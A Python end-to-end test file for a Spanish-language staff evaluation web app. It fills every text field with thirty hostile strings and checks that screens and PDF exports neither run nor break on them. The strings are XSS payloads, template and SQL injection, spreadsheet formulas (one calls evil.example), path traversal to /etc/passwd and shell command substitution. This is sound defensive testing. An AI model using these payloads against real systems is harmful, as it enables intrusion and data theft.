"""Thirty texts that mean harm, in every field that takes text: on every screen, in every document.

None runs, none asks for anything, none breaks a page or a document.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.client import HTTPConnection
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page
from pypdf import PdfReader

from e2e.conftest import (
    ADMIN_EMAIL,
    PASSWORD,
    PHONE,
    START_SECONDS,
    Program,
    Visitor,
    serving,
)

ONE_LINE = (
    # what would run as code of the page, and tell so
    "<script>hacked=1</script>",
    '"><img src=/hacked onerror=hacked=1>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></style><script>hacked=1</script>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    '<a href="javascript:hacked=1">x</a>',
    "javascript:hacked=1//",
    '" autofocus onfocus=hacked=1 x="',
    "<style>@import'/hacked'</style>",
    "<!--<script>hacked=1</script>-->",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    # what templates, spreadsheets, databases and shells would run
    "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "{% load x %}{{ request }}",
    "%s%n%x {0.__class__}",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,b;c "d"|e',
    "'; DROP TABLE accounts_user; --",
    "../../../etc/passwd",
    "$(touch /tmp/hacked)`id`",
    # what looks like something else
    "\u202eotxet odasapsed\u202c \u2066x",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇴 \u200d\u200b\ufeff",
    "\\u003cscript\\u003e\\",
    "(Tj) ET Q endstream endobj /JS (x)",
)
ALONE = (
    "__proto__",
    "null",
    "Z" + "\u0300\u0489" * 74,
    "W" * 150,
)
OF_LINES = "una\r\nSet-Cookie: a=b\n\n=1+1\n<script>hacked=1</script>"
HOSTILE = (*ONE_LINE, *ALONE, OF_LINES)
NAME_LENGTH = 150


def packed(texts: tuple[str, ...]) -> Iterator[str]:
    """The texts in as few names as they fit into."""
    name, *rest = texts
    for text in rest:
        if len(name) + len(text) < NAME_LENGTH:
            name += f" {text}"
        else:
            yield name
            name = text
    yield name


NAMES = (*packed(ONE_LINE), *ALONE)
EVERYTHING = "\n".join(HOSTILE)


@dataclass
class Caller:
    """Somebody who makes calls without a browser."""

    program: Program
    cookies: dict[str, str] = field(default_factory=dict)

    def call(self, method: str, path: str, body: Any = None, *, expected: int = 201) -> Any:
        """Make a call; answers the body of the answer, which must have this status."""
        token = self._send("GET", "/csrf-token", None, {})[1]["csrfToken"]
        headers = {"X-CSRFToken": token, "Content-Type": "application/json"}
        status, answer = self._send(method, path, body, headers)
        assert status == expected, (path, body, answer)
        return answer

    def _send(self, method: str, path: str, body: Any, headers: dict[str, str]) -> tuple[int, Any]:
        connection = HTTPConnection("127.0.0.1", self.program.port, timeout=START_SECONDS)
        cookies = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        sent = json.dumps(body or {}) if method != "GET" else None
        connection.request(method, f"/api{path}", sent, headers | {"Cookie": cookies})
        answer = connection.getresponse()
        content = answer.read()
        connection.close()
        for cookie in answer.headers.get_all("Set-Cookie", []):
            name, _, value = cookie.partition(";")[0].partition("=")
            self.cookies[name] = value
        return answer.status, json.loads(content or "null")

    def create(self, path: str, **body: Any) -> int:
        """Create something; answers its id."""
        return int(self.call("POST", path, body)["id"])

    def sign_in(self, email: str) -> None:
        """Begin a session."""
        body = {"email": email, "password": PASSWORD}
        self.call("POST", "/users/login", body, expected=200)


@dataclass(frozen=True)
class School:
    """What was made of the texts: everybody in it was named by somebody who means harm."""

    program: Program
    bank_id: int
    evaluation_id: int
    evaluator_id: int
    target_id: int
    other_id: int


def email_of(number: int) -> str:
    """The e-mail of the evaluator with this number; -1 is whom they evaluate."""
    return f"persona{number}@colegio.example"


@pytest.fixture(scope="module")
def school(tmp_path_factory: pytest.TempPathFactory) -> Iterator[School]:
    """A school in which every text field holds the texts, and everybody has scored one person."""

    def prepare(program: Program) -> None:
        program.run("migrate")
        program.run(
            "create-admin", "--name", NAMES[0], "--email", ADMIN_EMAIL, text=f"{PASSWORD}\n"
        )

    for program in serving(tmp_path_factory.mktemp("hostile"), prepare):
        yield filled(program)


def filled(program: Program) -> School:
    """Put the texts through the calls that take text."""
    admin = Caller(program)
    admin.sign_in(ADMIN_EMAIL)
    categories = [admin.create("/categories", name=name) for name in NAMES]
    banks = [
        admin.create("/question-banks", name=name, description=EVERYTHING[:2000]) for name in NAMES
    ]
    for number, text in enumerate(HOSTILE):
        kind = "objective" if number % 2 else "competency"
        path = f"/question-banks/{banks[0]}/questions"
        admin.create(path, question_text=text, question_type=kind)
    evaluations = [
        admin.create(
            "/evaluations",
            name=name,
            weight_objectives=50,
            weight_competencies=50,
            category_id=category,
            question_bank_id=banks[0],
        )
        for name, category in zip(NAMES, categories, strict=True)
    ]

    def person(number: int, name: str, role: str) -> int:
        return admin.create(
            "/users",
            name=name,
            email=email_of(number),
            password=PASSWORD,
            role=role,
            position=name,
            department=name,
            category_id=categories[0],
        )

    target, other = (person(-each, NAMES[-each], "colaborador") for each in (1, 2))
    evaluators = [person(number, name, "evaluador") for number, name in enumerate(NAMES)]
    for evaluator in evaluators:
        admin.create("/assignments", evaluator_id=evaluator, collaborator_id=target)
        admin.create("/assignments", evaluator_id=evaluator, collaborator_id=other)
    questions = admin.call("GET", f"/question-banks/{banks[0]}/questions", expected=200)
    for number, evaluator in enumerate(evaluators):
        caller = Caller(program)
        caller.sign_in(email_of(number))
        caller.create(
            "/full-evaluation/full-submit",
            evaluation_id=evaluations[0],
            user_id=target,
            evaluator_id=evaluator,
            responses=[{"question_id": each["id"], "score": 3} for each in questions],
            training={"requires_training": True, "comments": f"{NAMES[number]}\n{EVERYTHING}"},
        )
    refused = {"name": OF_LINES}
    fields = admin.call("POST", "/categories", refused, expected=400)["fields"]
    assert set(fields) == {"name"}
    return School(program, banks[0], evaluations[0], evaluators[0], target, other)


def manager_screens(school: School) -> list[str]:
    """Every screen of a manager, and the further pages of lists that have them."""
    search = "?search=%3Cscript%3Ehacked%3D1%3C%2Fscript%3E"
    return [
        "/dashboard",
        "/users",
        "/users?page=2",
        f"/users{search}",
        "/create-user",
        f"/edit-user/{school.target_id}",
        "/evaluations",
        f"/edit-evaluation/{school.evaluation_id}",
        "/create-evaluation",
        f"/question-banks?bank={school.bank_id}",
        "/evaluators",
        "/collaborators",
        "/categories",
        "/reports",
        "/reports?evaluation_name=%22%3E%3Cimg%20src%3D/hacked%3E",
        f"/report/{school.evaluation_id}/{school.target_id}",
        "/evaluation-history",
        f"/evaluation-history/{school.target_id}",
        f"/assignments?evaluator={school.evaluator_id}",
        "/training-report",
        "/training-report?page=2",
        "/audit",
        "/profile",
        "/edit-profile",
        "/no/%3Cscript%3Ehacked%3D1%3C%2Fscript%3E",
    ]


@pytest.fixture
def arrive(school: School, visit: Callable[..., Visitor]) -> Callable[[str], Visitor]:
    """Open a browser on a phone, in which somebody has signed in."""

    def arrive(email: str) -> Visitor:
        person = visit(school.program, PHONE)
        caller = Caller(school.program)
        caller.sign_in(email)
        person.context.add_cookies(
            [
                {"name": name, "value": value, "url": school.program.url}
                for name, value in caller.cookies.items()
            ]
        )
        return person

    return arrive


def is_harmless(person: Visitor, path: str) -> str:
    """Open a screen, which must be whole; answers what can be read there."""
    page = person.page
    person.open(path)
    person.settle()
    unharmed(person)
    text: str = page.evaluate(
        "document.body.innerText + [...document.querySelectorAll('input')].map(e => e.value)"
    )
    return text


# controls that are shown, but not where a phone could show them
_OUT_OF_REACH = """[...document.querySelectorAll('main :is(a, button, input, select, textarea)')]
    .filter(each => each.getBoundingClientRect().width
        && each.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
    .map(each => each.outerHTML)"""


def unharmed(person: Visitor) -> None:
    """Nothing has run in the page as it is, nothing has broken it, and it fits a phone."""
    page = person.page
    assert page.evaluate("window.hacked") is None, page.url
    foreign = "main :is(script, iframe, style:not([data-mantine-styles]), [srcdoc], [onerror])"
    assert page.locator(foreign).count() == 0, page.url
    assert page.get_by_text("Esta página no se pudo mostrar").count() == 0, page.url
    wider = page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )
    assert wider <= 0, f"{page.url} scrolls sideways by {wider}px"
    assert page.evaluate(_OUT_OF_REACH) == [], page.url


def squeezed(text: str) -> str:
    """The text as it stands on a screen, where white space counts once."""
    return " ".join(text.split())


def test_no_text_does_harm_on_a_managers_screens(
    school: School, arrive: Callable[[str], Visitor]
) -> None:
    assert len(HOSTILE) == 30
    manager = arrive(ADMIN_EMAIL)
    seen = {path: squeezed(is_harmless(manager, path)) for path in manager_screens(school)}
    people = seen["/users"] + seen["/users?page=2"]
    for name in map(squeezed, NAMES):
        assert name in people
        assert name in seen["/evaluations"]
        assert name in seen["/categories"]
    for question in map(squeezed, HOSTILE):
        assert question in seen[f"/report/{school.evaluation_id}/{school.target_id}"]
        assert question in seen[f"/question-banks?bank={school.bank_id}"]


def test_no_text_does_harm_to_whom_it_is_about(
    school: School, arrive: Callable[[str], Visitor]
) -> None:
    evaluator = arrive(email_of(0))
    form = f"/evaluation-form?collaborator={school.other_id}"
    for path in ("/home", "/evaluation-form", form, f"{form}&step=training", "/my-history"):
        is_harmless(evaluator, path)
    target = arrive(email_of(-1))
    report = f"/report/{school.evaluation_id}/{school.target_id}"
    for path in ("/home", "/my-history", "/profile", report):
        is_harmless(target, path)


def document(page: Page, button: str) -> PdfReader:
    """The document that a button makes."""
    with page.expect_download() as download:
        page.get_by_role("button", name=button).first.click()
    return PdfReader(Path(download.value.path()))


def test_every_document_is_made_of_any_text(
    school: School, arrive: Callable[[str], Visitor]
) -> None:
    manager = arrive(ADMIN_EMAIL)
    readers = []
    for path, button in (
        ("/reports", "Descargar PDF"),
        ("/training-report", "Descargar PDF"),
        (f"/report/{school.evaluation_id}/{school.target_id}", "Descargar PDF"),
        (f"/evaluation-history/{school.target_id}", "Descargar PDF"),
        ("/evaluations", f"Reportes de {squeezed(NAMES[0])}"),
    ):
        manager.open(path)
        readers.append(document(manager.page, button))
        unharmed(manager)
    for reader in readers:
        text = "".join(word for each in reader.pages for word in each.extract_text().split())
        assert "ColegiodePrueba" in text
        assert "<script>hacked=1</script>" in text
        root = reader.trailer["/Root"]
        assert not {"/AA", "/AcroForm", "/JavaScript", "/Names"} & set(root)
        assert isinstance(root["/OpenAction"], list)  # where to begin to read: no action at all
        assert all("/AA" not in each for each in reader.pages)
        links = [note.get_object() for each in reader.pages for note in each.get("/Annots", [])]
        # nothing is led to but where the document is verified
        where = {str(link["/A"]["/URI"]).rpartition("/")[0] for link in links}
        assert where == {f"{manager.program.url}/verificar"}
        assert {link["/A"]["/S"] for link in links} == {"/URI"}


def test_the_browser_tells_what_is_against_the_policy(
    school: School, arrive: Callable[[str], Visitor]
) -> None:
    stranger = arrive(email_of(0))
    is_harmless(stranger, "/home")
    stranger.page.evaluate(
        """() => {
            window.violated = new Set();
            addEventListener(
                'securitypolicyviolation', event => window.violated.add(event.violatedDirective));
            document.head.append(Object.assign(
                document.createElement('style'), {textContent: '* {color: red}'}));
            document.body.insertAdjacentHTML(
                'beforeend', '<img src=x onerror=hacked=1 style="top:0">');
            document.head.append(Object.assign(
                document.createElement('script'), {textContent: 'hacked = 1'}));
        }"""
    )
    # the browser reports violations in tasks of their own, after the script has returned
    stranger.page.wait_for_function("window.violated.size === 4")
    assert stranger.page.evaluate("window.hacked") is None
    told = " ".join(stranger.complaints)
    for directive in ("style-src-elem", "style-src-attr", "script-src-elem", "script-src-attr"):
        assert f"against the security policy: {directive} inline" in told
    stranger.complaints.clear()
